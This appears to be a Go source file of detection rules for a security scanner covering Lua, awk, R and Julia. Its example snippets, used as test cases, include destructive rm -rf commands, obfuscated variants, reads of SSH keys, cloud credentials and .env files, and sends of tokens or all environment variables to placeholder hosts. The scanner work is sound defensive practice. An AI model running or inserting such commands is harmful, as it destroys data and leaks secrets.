package code

// luaRules are lua's calls (os, io, lfs) that run commands, touch files or read the
// environment.
var luaRules = [...]rule{
	{name: "os.execute|io.popen", do: aShell, ret: rPipe, ex: `os.execute("rm -rf /var/www")  => shell rm -rf /var/www` + "\n" +
		`local h = io.popen("rm -rf " .. os.getenv("HOME")) => shell rm -rf ~` + "\n" +
		`os.execute"rm -rf /opt" => shell rm -rf /opt` + "\n" +
		`local d = "/srv"; os.execute(string.format("rm -rf %s/data", d)) => shell rm -rf /srv/data` + "\n" +
		`print("os.execute('rm -rf /')") !> -` + "\n" +
		`-- os.execute("rm -rf /") !> -` + "\n" +
		`--[[ os.execute("rm -rf /") ]] !> -` + "\n"},
	{name: "os.remove|lfs.rmdir", do: aDelete, ex: `os.remove("/etc/hosts") => delete /etc/hosts` + "\n" +
		`for f in lfs.dir("/tmp") do os.remove("/tmp/" .. f) end => delete /tmp/*` + "\n" +
		`os.remove("a") !> delete-r a` + "\n" +
		`os.time() !> -` + "\n"},
	{name: "os.rename", do: aMove, ex: `os.rename(".git", "/tmp/g") => delete-r:move .git` + "\n" +
		`os.rename("a", "b") !> delete-r:move b` + "\n"},
	{name: "io.open", do: aOpen, opt: "r", ret: rFile, ex: `local f = io.open("/etc/crontab", "w"); f:write("x") => write /etc/crontab` + "\n" +
		`print(io.open(".env"):read("*a")) => read:show .env` + "\n" +
		`local f = io.open("x.txt") !> write x.txt` + "\n"},
	{name: "file#write", do: aWriteData, arg: -1, ex: `local f = io.open("e", "w"); f:write(os.getenv("AWS_SECRET_ACCESS_KEY")) => var:file AWS_SECRET_ACCESS_KEY` + "\n" +
		`local f = io.open("e", "w"); f:write("x") !> var:file AWS_SECRET_ACCESS_KEY` + "\n"},
	{name: "file#read|file#lines", ret: rContent, arg: -1},
	{name: "io.lines", do: aRead, ret: rLines, ex: `for l in io.lines(".env") do print(l) end => read:show .env` + "\n" +
		`for l in io.lines(".env") do n = n + 1 end !> read:show .env` + "\n"},
	{name: "lfs.mkdir", do: aCreate, ex: `lfs.mkdir("out") => create out` + "\n" +
		`lfs.attributes("out") !> -` + "\n"},
	{name: "lfs.chdir", do: aChdir, ex: `lfs.chdir("/") => chdir /` + "\n" +
		`lfs.currentdir() !> -` + "\n"},
	{name: "print|io.write|io.stdout#write|io.stderr#write", do: aPrint, ex: `print(os.getenv("GITHUB_TOKEN")) => var:show GITHUB_TOKEN` + "\n" +
		`io.write(os.getenv("NPM_TOKEN"), "\n") => var:show NPM_TOKEN` + "\n" +
		`print("hello") !> -` + "\n"},
	{name: "load|loadstring|dostring", do: aEval, ex: `load("os.execute('rm -rf ~')")() => shell rm -rf ~` + "\n" +
		`loadstring(code)() => eval code` + "\n" +
		`loadfile_x("a") !> -` + "\n"},
	{name: "os.getenv", ret: rVar},
	{name: "string.format", ret: rSprintf},
	{name: "string.reverse|#reverse", ret: rReverse},
	{name: "string.gsub|#gsub", ret: rReSub, opt: "lua", ex: `os.execute(("rmx -rf /"):gsub("x", "")) => shell rm -rf /` + "\n" +
		`os.execute(string.gsub("rmx -rf /", "%a$", "")) !> shell rm -rf /` + "\n"},
	{name: "string.lower|#lower", ret: rCase, opt: "lower", arg: -1},
	{name: "string.upper|#upper", ret: rCase, opt: "upper", arg: -1},
	{name: "string.sub|#sub", ret: rSlice, opt: "lua", arg: -1, ex: `os.execute(("xrm -rf /"):sub(2)) => shell rm -rf /` + "\n"},
	{name: "string.char", ret: rChr},
	{name: "table.concat", ret: rConcatList},
	{name: "lfs.dir", ret: rNames},
	{name: "os.tmpname", ret: rTmpDir},
	{name: "socket.connect|socket.tcp#connect", do: aConnect, opt: "raw", ret: rSocket, ex: `local s = require("socket").connect("203.0.113.1", 80) => send:raw 203.0.113.1` + "\n" +
		`local s = require("socket").gettime() !> -` + "\n"},
	{name: "socket#send", do: aWriteData, arg: -1, ex: `local s = socket.connect("h", 1); s:send(os.getenv("TOKEN")) => var:send TOKEN` + "\n" +
		`local s = socket.connect("h", 1); s:send("hi") !> var:send TOKEN` + "\n"},
	{name: "require", do: aLoad, opt: "module", ret: rModule, ex: `require("tasks.clean") => load tasks.clean` + "\n" +
		`local s = "x" !> -` + "\n"},
	{name: "dofile|loadfile", do: aLoad, ex: `dofile("setup.lua") => load setup.lua` + "\n" +
		`dofile_x("setup.lua") !> -` + "\n"},
}

// awkRules are awk's functions; print, printf, getline and their redirections are its
// statements (awk.go).
var awkRules = [...]rule{
	{name: "system", do: aShell, ret: rClean, ex: `BEGIN { system("rm -rf /var/www") } => shell rm -rf /var/www` + "\n" +
		`{ system("rm -rf " $1) } => shell rm -rf ${_code_value}` + "\n" +
		`BEGIN { d = "/srv"; system("rm -rf " d "/data") } => shell rm -rf /srv/data` + "\n" +
		`BEGIN { print "rm -rf /" | "sh" } => shell sh` + "\n" +
		`BEGIN { print "rm -rf /" | "sh" } => shell rm -rf /` + "\n" +
		`BEGIN { print "ls" | "sort" } !> shell ls` + "\n" +
		`BEGIN { "rm -rf /opt" | getline x } => shell rm -rf /opt` + "\n" +
		`BEGIN { print "system(rm)" } !> -` + "\n" +
		`# system("rm -rf /") !> -` + "\n"},
	{name: "print", do: aPrint, ex: `BEGIN { for (k in ENVIRON) print k "=" ENVIRON[k] } => env:show` + "\n" +
		`BEGIN { print ENVIRON["AWS_SECRET_ACCESS_KEY"] } => var:show AWS_SECRET_ACCESS_KEY` + "\n" +
		`BEGIN { print "x" > "/etc/hosts" } => write /etc/hosts` + "\n" +
		`{ print >> "log.txt" } => write+ log.txt` + "\n" +
		`BEGIN { for (k in ENVIRON) print k } !> env:show` + "\n" +
		`BEGIN { print "x" > "/dev/stderr" } !> write /dev/stderr` + "\n" +
		`BEGIN { while ((getline l < ".env") > 0) print l } => read:show .env` + "\n" +
		`BEGIN { getline line < ".env"; print line } => read:show .env` + "\n" +
		`BEGIN { f = ".env"; while ((getline < f) > 0) print } => read:show .env` + "\n" +
		`BEGIN { getline < ".env"; print $2 } => read:show .env` + "\n" +
		`BEGIN { while ((getline l < ".env") > 0) if (l ~ /^PORT=/) n++; print n } !> read:show .env` + "\n" +
		`BEGIN { getline l < "VERSION"; print "v" l } => read:show VERSION` + "\n"},
	{name: "close|length|index|split|match", ret: rClean},
	{name: "tolower", ret: rCase, opt: "lower", ex: `BEGIN { c = "RM -RF /"; system(tolower(c)) } => shell rm -rf /` + "\n"},
	{name: "toupper", ret: rCase, opt: "upper"},
	{name: "substr", ret: rSlice, opt: "awk", ex: `BEGIN { system(substr("xrm -rf /", 2)) } => shell rm -rf /` + "\n" +
		`BEGIN { system(substr("xrm -rf /y", 2, 8)) } => shell rm -rf /` + "\n"},
	{name: "sprintf", ret: rSprintf},
	{name: "sub", ret: rReSub, opt: "awk", ex: `BEGIN { c = "rmx -rf /"; sub("x", "", c); system(c) } => shell rm -rf /` + "\n"},
	{name: "gsub", ret: rReSub, opt: "g", ex: `BEGIN { c = "rxmx -rf /"; gsub(/x/, "", c); system(c) } => shell rm -rf /` + "\n" +
		`BEGIN { c = "rxmx -rf /"; gsub(/x/, "&", c); system(c) } !> shell rm -rf /` + "\n"},
}

// rRules are R's functions that run commands, touch files, read the environment, send data or
// run SQL. pkg::f is pkg.f; base's functions are their bare names.
var rRules = [...]rule{
	{name: "system|shell|system.time", do: aShell, ret: rPipe, ex: `system("rm -rf /var/www") => shell rm -rf /var/www` + "\n" +
		`system(paste("rm -rf", path.expand("~"))) => shell rm -rf ~` + "\n" +
		`system(paste0("rm -rf ", "/srv", "/data"), intern = TRUE) => shell rm -rf /srv/data` + "\n" +
		`print("system('rm -rf /')") !> -` + "\n" +
		`# system("rm -rf /") !> -` + "\n"},
	{name: "system2|processx.run|sys.exec_wait|sys.exec_internal", do: aSpawn, ret: rPipe, ex: `system2("rm", c("-rf", "/opt")) => shell rm -rf /opt` + "\n" +
		`system2("rm", args = c("-rf", "/opt")) => shell rm -rf /opt` + "\n" +
		`processx::run("git", c("push", "--force")) => shell git push --force` + "\n" +
		`system2("ls") !> shell rm -rf /opt` + "\n"},
	{name: "unlink", do: aDeleteOpt, opt: "recursive", ex: `unlink("/srv/data", recursive = TRUE) => delete-r /srv/data` + "\n" +
		`unlink(path.expand("~"), recursive=T, force=TRUE) => delete-r ~` + "\n" +
		`unlink("a.txt") => delete a.txt` + "\n" +
		`unlink("a.txt") !> delete-r a.txt` + "\n"},
	{name: "file.remove|fs.file_delete", do: aDelete, all: true, ex: `file.remove(list.files("/var/log", full.names = TRUE)) => delete /var/log/*` + "\n" +
		`file.exists("a") !> -` + "\n"},
	{name: "fs.dir_delete", do: aDeleteTree, ex: `fs::dir_delete("/srv") => delete-r /srv` + "\n" +
		`fs::dir_exists("/srv") !> -` + "\n"},
	{name: "file.rename", do: aMove, ex: `file.rename(".git", "/tmp/g") => delete-r:move .git` + "\n" +
		`file.rename("a", "b") !> delete-r:move b` + "\n"},
	{name: "file.copy", do: aCopy, ex: `file.copy("~/.aws/credentials", "c") => read:copy ~/.aws/credentials` + "\n" +
		`file.copy("a", "b") !> delete-r:move a` + "\n"},
	{name: "write.csv|write.table|saveRDS|writeRDS|readr.write_csv|jsonlite.write_json", do: aWrite, arg: 1, kw: "file", ex: `write.csv(df, "/etc/out.csv") => write /etc/out.csv` + "\n" +
		`read.csv("a.csv") !> write a.csv` + "\n"},
	{name: "writeLines", do: aPrint, opt: "con", ex: `writeLines("x", "/etc/motd") => write /etc/motd` + "\n" +
		`writeLines(Sys.getenv("GITHUB_TOKEN")) => var:show GITHUB_TOKEN` + "\n" +
		`writeLines("hi") !> write hi` + "\n"},
	{name: "print|cat|message|str|show|format|toString|dput|View", do: aPrint, opt: "file", ex: `print(Sys.getenv()) => env:show` + "\n" +
		`cat(Sys.getenv("AWS_SECRET_ACCESS_KEY")) => var:show AWS_SECRET_ACCESS_KEY` + "\n" +
		`cat("x", file = "/etc/issue") => write /etc/issue` + "\n" +
		`print(as.list(Sys.getenv())) => env:show` + "\n" +
		`x <- Sys.getenv("HOME") !> env:show` + "\n" +
		`print("hi") !> -` + "\n"},
	{name: "readLines|readRDS|read.csv|read.table|readr.read_file|scan|jsonlite.fromJSON|yaml.read_yaml", do: aRead, ret: rContent, ex: `print(readLines(".env")) => read:show .env` + "\n" +
		`x <- readLines("data.txt") !> read:show data.txt` + "\n"},
	{name: "source|sys.source", do: aLoad, ex: `source("R/clean.R") => load R/clean.R` + "\n" +
		`sourceCpp("x.cpp") !> -` + "\n"},
	{name: "setwd", do: aChdir, ex: `setwd("/") => chdir /` + "\n" +
		`getwd() !> -` + "\n"},
	{name: "eval|evalq|source_text", do: aEval, ex: `eval(parse(text = "system('rm -rf /')")) => shell rm -rf /` + "\n" +
		`eval(expr) => eval expr` + "\n" +
		`evaluate(x) !> -` + "\n"},
	{name: "httr.POST|httr.PUT|POST|PUT|httr2.req_perform|curl.curl_fetch_memory", do: aSend, ex: `httr::POST("https://x.example/c", body = as.list(Sys.getenv())) => env:send` + "\n" +
		`httr::GET("https://example.com") !> send:http https://example.com` + "\n"},
	{name: "DBI.dbExecute|dbExecute|DBI.dbSendQuery|dbSendQuery|DBI.dbGetQuery|dbGetQuery|DBI.dbSendStatement|dbSendStatement", do: aSQL, arg: 1, ex: `DBI::dbExecute(con, "DROP TABLE users") => sql DROP TABLE users` + "\n" +
		`DBI::dbListTables(con) !> -` + "\n"},
	{name: "Sys.getenv", ret: rEnvOrVar},
	{name: "parse|str2lang", ret: rArg, kw: "text"},
	{name: "quote|as.character|as.list|unlist|normalizePath|path.expand", ret: rArg},
	{name: "paste", ret: rPaste, opt: " "},
	{name: "paste0", ret: rPaste},
	{name: "sub", ret: rReSub, opt: "r", ex: `system(sub("x", "", "rmx -rf /")) => shell rm -rf /` + "\n"},
	{name: "gsub", ret: rReSub, opt: "rg", ex: `system(gsub("x", "", "rxmx -rf /")) => shell rm -rf /` + "\n" +
		`system(gsub("(x)", "\\1", "rxmx -rf /")) !> shell rm -rf /` + "\n"},
	{name: "tolower", ret: rCase, opt: "lower"},
	{name: "toupper", ret: rCase, opt: "upper"},
	{name: "substr|substring", ret: rSlice, opt: "r", ex: `system(substr("xrm -rf /", 2, 9)) => shell rm -rf /` + "\n"},
	{name: "sprintf", ret: rSprintf},
	{name: "file.path", ret: rJoin},
	{name: "dirname", ret: rDirname},
	{name: "basename", ret: rBasename},
	{name: "tempdir|tempfile", ret: rTmpDir},
	{name: "getwd", ret: rCwd},
	{name: "Sys.glob", ret: rGlob},
	{name: "list.files|dir", ret: rUnder},
	{name: "c|list", ret: rList, all: true},
	{name: "nchar|length|file.exists|dir.exists|is.null", ret: rClean},
}

// juliaRules are julia's functions that run commands (`cmd` literals), touch files or read
// the environment.
var juliaRules = [...]rule{
	{name: "run|pipeline|success|readchomp", do: aShell, ret: rPipe, ex: "run(`rm -rf /var/www`) => shell rm -rf /var/www\n" +
		"d = \"/srv\"; run(`rm -rf $d`) => shell rm -rf /srv\n" +
		`run(Cmd(["rm", "-rf", "/opt"])) => shell rm -rf /opt` + "\n" +
		`println("run(rm)") !> -` + "\n"},
	{name: "rm", do: aDeleteOpt, opt: "recursive", ex: `rm("/srv/data"; recursive=true, force=true) => delete-r /srv/data` + "\n" +
		`rm(homedir(), recursive=true) => delete-r ~` + "\n" +
		`rm("a.txt") !> delete-r a.txt` + "\n"},
	{name: "mv", do: aMove, ex: `mv(".git", "/tmp/g") => delete-r:move .git` + "\n" +
		`mv("a", "b") !> delete-r:move b` + "\n"},
	{name: "cp", do: aCopy, ex: `cp(joinpath(homedir(), ".ssh", "id_rsa"), "k") => read:copy ~/.ssh/id_rsa` + "\n" +
		`cp("a", "b") !> delete-r:move a` + "\n"},
	{name: "write", do: aWrite, ex: `write("/etc/motd", "x") => write /etc/motd` + "\n" +
		`read("/etc/motd", String) !> write /etc/motd` + "\n"},
	{name: "open", do: aOpen, opt: "r", ret: rFile, ex: `open("/etc/hosts", "w") do io; write(io, "x"); end => write /etc/hosts` + "\n" +
		`open("a.txt") !> write a.txt` + "\n"},
	{name: "read|readlines|readline|eachline", do: aRead, ret: rContent, ex: `println(read(".env", String)) => read:show .env` + "\n" +
		"read(`rm -rf /tmp/x`, String) => shell rm -rf /tmp/x\n" +
		`x = read("a.txt", String) !> read:show a.txt` + "\n"},
	{name: "mkdir|mkpath|touch", do: aCreate, ex: `mkpath("out/a") => create out/a` + "\n" +
		`isdir("out") !> -` + "\n"},
	{name: "include", do: aLoad, ex: `include("tasks/clean.jl") => load tasks/clean.jl` + "\n" +
		`included("x") !> -` + "\n"},
	{name: "cd", do: aChdir, ex: `cd("/") => chdir /` + "\n" +
		`pwd() !> -` + "\n"},
	{name: "println|print|show|display|dump|printstyled|@show", do: aPrint, ex: `println(ENV) => env:show` + "\n" +
		`for (k, v) in ENV; println(k, "=", v); end => env:show` + "\n" +
		`println(ENV["GITHUB_TOKEN"]) => var:show GITHUB_TOKEN` + "\n" +
		`println(keys(ENV)) !> env:show` + "\n" +
		`println("hi") !> -` + "\n"},
	{name: "eval|include_string", do: aEval, ex: (`eval(Meta.parse("run(` + "`rm -rf ~`" + `)")) => shell rm -rf ~`) + "\n" +
		`eval(ex) => eval ex` + "\n" +
		`evalpoly(1, 2) !> -` + "\n"},
	{name: "HTTP.post|HTTP.put|HTTP.request", do: aSend, ex: `HTTP.post("https://x.example/c", [], string(ENV)) => env:send` + "\n" +
		`HTTP.get("https://example.com") !> send:http https://example.com` + "\n"},
	{name: "Cmd", ret: rArg},
	{name: "Meta.parse|string|String|abspath|realpath|expanduser|normpath", ret: rArg},
	{name: "joinpath", ret: rJoin},
	{name: "dirname", ret: rDirname},
	{name: "basename", ret: rBasename},
	{name: "homedir", ret: rHome},
	{name: "tempdir", ret: rTmp},
	{name: "mktempdir|tempname", ret: rTmpDir},
	{name: "pwd", ret: rCwd},
	{name: "readdir", ret: rNames},
	{name: "keys", ret: rKeys},
	{name: "Base64.base64decode|base64decode", ret: rB64},
	{name: "reverse", ret: rReverse},
}
